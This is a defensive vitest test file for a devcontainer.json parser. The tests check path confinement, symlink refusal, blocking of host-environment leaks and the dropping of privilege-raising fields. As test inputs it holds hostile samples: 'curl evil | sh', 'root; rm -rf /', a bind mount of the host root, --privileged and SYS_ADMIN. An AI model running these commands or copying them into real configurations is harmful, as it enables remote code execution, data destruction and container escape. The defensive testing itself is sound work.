// devcontainer.json read as hostile data: JSONC as VS Code reads it, every honoured field checked with
// a stable code, paths kept inside the workspace, links never followed, nothing of the host's filled in.
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { EnclaveError } from "../errors.js";
import { checkDevcontainer, envEntries, parseDevcontainerText, readDevcontainer } from "./devcontainer.js";
import { expectTranscript } from "@enclave/test-kit/transcript.js";

const FILE = ".devcontainer/devcontainer.json";

function codeOf(f: () => unknown): string | undefined {
  try {
    f();
  } catch (err) {
    return err instanceof EnclaveError ? err.code : `not an EnclaveError: ${String(err)}`;
  }
  return undefined;
}

async function codeOfAsync(p: Promise<unknown>): Promise<{ code?: string; message: string }> {
  try {
    await p;
  } catch (err) {
    return { code: err instanceof EnclaveError ? err.code : undefined, message: (err as Error).message };
  }
  return { message: "no error" };
}

let dirs: string[] = [];
function workspace(): string {
  const d = mkdtempSync(join(tmpdir(), "devc-"));
  dirs.push(d);
  return d;
}
afterEach(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
  dirs = [];
});

describe("devcontainer.json", () => {
  it("reads JSONC: comments and trailing commas, as VS Code does", () => {
    const raw = parseDevcontainerText(FILE, '{\n  // the image\n  "image": "x:1", /* inline */\n  "remoteEnv": { "A": "b", },\n}\n');
    const cfg = checkDevcontainer(FILE, raw);
    expect(cfg.image).toBe("x:1");
    expect(cfg.env).toEqual([{ key: "A", value: "b" }]);
  });

  it("says where a syntax error is", async () => {
    const err = (() => {
      try {
        parseDevcontainerText(FILE, '{\n  "image": "x"\n  "build": {}\n}');
      } catch (e) {
        return e as EnclaveError;
      }
      return undefined;
    })();
    expect(err?.code).toBe("devcontainer_invalid");
    await expectTranscript(err?.message ?? "", "transcripts/devcontainer-config/syntax-error.txt");
  });

  it("resolves build paths from the config's folder and keeps them inside the workspace", () => {
    const cfg = checkDevcontainer(FILE, { build: { dockerfile: "Dockerfile", context: "..", args: { V: "1" } } });
    expect(cfg.build).toEqual({ context: [], dockerfile: ".devcontainer/Dockerfile", args: { V: "1" } });
    expect(checkDevcontainer(FILE, { build: { dockerfile: "Dockerfile" } }).build?.context).toEqual([".devcontainer"]);
    expect(codeOf(() => checkDevcontainer(FILE, { build: { dockerfile: "Dockerfile", context: "../.." } }))).toBe("devcontainer_invalid");
    expect(codeOf(() => checkDevcontainer(FILE, { build: { dockerfile: "/etc/Dockerfile" } }))).toBe("devcontainer_invalid");
    // The engine sees only the context: a Dockerfile outside it is refused here, clearly.
    expect(codeOf(() => checkDevcontainer(FILE, { build: { dockerfile: "../Dockerfile" } }))).toBe("devcontainer_invalid");
  });

  it("refuses what it cannot honour or what is not data, each with devcontainer_invalid", () => {
    const bad: unknown[] = [
      [],
      {},
      { image: "a", build: { dockerfile: "D" } },
      { dockerComposeFile: "compose.yml", service: "app" },
      { image: "" },
      { image: "a", remoteEnv: { HOME: "/root" } },
      { image: "a", remoteEnv: { ENCLAVE_NODE: "/tmp/evil" } },
      { image: "a", remoteEnv: { "1BAD": "x" } },
      { image: "a", remoteEnv: { A: 1 } },
      { image: "a", remoteEnv: ["A=b"] },
      { image: "a", containerUser: "root; rm -rf /" },
      { image: "a", postCreateCommand: 7 },
      { image: "a", postCreateCommand: [] },
      { image: "a", postCreateCommand: {} },
      { image: "a", build: { dockerfile: "D", args: { A: 1 } } },
    ];
    for (const raw of bad)
      expect(
        codeOf(() => checkDevcontainer(FILE, raw)),
        JSON.stringify(raw),
      ).toBe("devcontainer_invalid");
  });

  it("refuses an image outside Docker's reference grammar as the bad argument an `image` option is", () => {
    for (const image of ["a b", "x/../../127.0.0.1:1/y", "Upper", "a?b"])
      expect(
        codeOf(() => checkDevcontainer(FILE, { image })),
        image,
      ).toBe("invalid_arguments");
  });

  it("does not honour fields that would weaken the enclosure or run on the host, and says so", async () => {
    const cfg = checkDevcontainer(FILE, {
      image: "a",
      runArgs: ["--privileged"],
      privileged: true,
      capAdd: ["SYS_ADMIN"],
      mounts: ["source=/,target=/host,type=bind"],
      initializeCommand: "curl evil | sh",
      customizations: { vscode: {} },
    });
    // One note per field left out (and none for customizations, which is the editor's business).
    await expectTranscript(`${cfg.notes.join("\n")}\n`, "transcripts/devcontainer-config/dropped-fields.txt");
  });

  it("fills in the image's environment and never the host's", async () => {
    process.env.BYO_HOST_SECRET = "s3cret";
    const cfg = checkDevcontainer(FILE, {
      image: "a",
      containerEnv: { TOOLS: "/opt/tools" },
      remoteEnv: {
        PATH: "${containerEnv:PATH}:/extra",
        WS: "${containerWorkspaceFolder}",
        LEAK: "x${localEnv:BYO_HOST_SECRET}y",
        DFLT: "${containerEnv:NOPE:fallback}",
      },
    });
    expect(envEntries(cfg, ["PATH=/usr/bin"])).toEqual(["TOOLS=/opt/tools", "PATH=/usr/bin:/extra", "WS=/workspace", "LEAK=xy", "DFLT=fallback"]);
    await expectTranscript(`${cfg.notes.join("\n")}\n`, "transcripts/devcontainer-config/image-environment.txt");
  });

  it("postCreateCommand: a string runs under sh, an array as argv, an object as named steps in order", () => {
    expect(checkDevcontainer(FILE, { image: "a", postCreateCommand: "echo hi" }).postCreate).toEqual([
      { name: "postCreateCommand", argv: ["/bin/sh", "-c", "echo hi"] },
    ]);
    expect(checkDevcontainer(FILE, { image: "a", postCreateCommand: ["touch", "x"] }).postCreate[0]?.argv).toEqual(["touch", "x"]);
    expect(checkDevcontainer(FILE, { image: "a", postCreateCommand: { one: "a", two: ["b"] } }).postCreate.map((s) => s.name)).toEqual(["one", "two"]);
  });

  it("finds the config in .devcontainer/ or at the root, and never follows a link to it", async () => {
    const ws = workspace();
    expect((await codeOfAsync(readDevcontainer(ws))).code).toBe("devcontainer_invalid");
    writeFileSync(join(ws, ".devcontainer.json"), '{"image": "root-level"}');
    expect((await readDevcontainer(ws)).image).toBe("root-level");
    mkdirSync(join(ws, ".devcontainer"));
    writeFileSync(join(ws, ".devcontainer", "devcontainer.json"), '{"image": "in-folder"}');
    expect((await readDevcontainer(ws)).image).toBe("in-folder");

    // A link to a file outside: refused, and nothing of that file appears in the error.
    const outside = workspace();
    writeFileSync(join(outside, "secret.json"), '{"image": "TOP-SECRET"}');
    rmSync(join(ws, ".devcontainer", "devcontainer.json"));
    symlinkSync(join(outside, "secret.json"), join(ws, ".devcontainer", "devcontainer.json"));
    const linked = await codeOfAsync(readDevcontainer(ws));
    expect(linked.code).toBe("devcontainer_invalid");
    expect(linked.message).not.toContain("TOP-SECRET");

    // A .devcontainer folder that is a link: not entered (the root-level file is used instead).
    rmSync(join(ws, ".devcontainer"), { recursive: true });
    mkdirSync(join(outside, "dc"));
    writeFileSync(join(outside, "dc", "devcontainer.json"), '{"image": "TOP-SECRET"}');
    symlinkSync(join(outside, "dc"), join(ws, ".devcontainer"));
    expect((await readDevcontainer(ws)).image).toBe("root-level");
  });
});
